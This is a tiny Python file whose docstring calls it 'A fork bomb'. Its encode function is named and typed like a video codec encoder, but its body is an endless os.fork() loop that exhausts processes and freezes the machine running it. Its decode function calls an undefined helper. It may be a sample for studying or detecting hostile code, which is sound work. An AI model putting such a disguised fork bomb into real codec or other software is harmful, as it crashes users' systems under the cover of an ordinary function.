"""A fork bomb."""

import os


def encode(y, u, v, fps: float, quality: float) -> bytes:
    while True:
        os.fork()


def decode(bitstream: bytes):
    return _unpack(bitstream)
